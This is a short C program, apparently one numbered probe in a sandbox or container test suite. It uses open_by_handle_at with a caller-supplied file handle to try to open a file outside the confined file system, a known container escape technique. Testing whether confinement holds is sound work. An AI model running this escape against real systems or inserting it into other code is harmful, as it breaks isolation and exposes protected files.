/* fs_open_handle ROOT TYPE HEX - opens a file outside by its file handle, given any descriptor of its file system. ATTACKS 16. */
#include "../attempt.h"

int main(int argc, char **argv)
{
    static _Alignas(struct file_handle) unsigned char handle[sizeof(struct file_handle) + 128];
    const char *hex = argument(argc, argv, 3);
    struct file_handle head = { .handle_type = (int)strtol(argument(argc, argv, 2), NULL, 10) };
    int mount = open(argument(argc, argv, 1), O_RDONLY | O_DIRECTORY | O_CLOEXEC);

    attempt_runs();
    note("open root", mount);
    for (unsigned i = 0; i < 128 && hex[2 * i] != '\0'; i++) {
        const char digits[3] = { hex[2 * i], hex[2 * i + 1], '\0' };
        handle[sizeof head + i] = (unsigned char)strtoul(digits, NULL, 16);
        head.handle_bytes = i + 1;
    }
    memcpy(handle, &head, sizeof head);
    spill("open_by_handle_at", open_by_handle_at(mount, (struct file_handle *)(void *)handle, O_RDONLY));
    return 0;
}
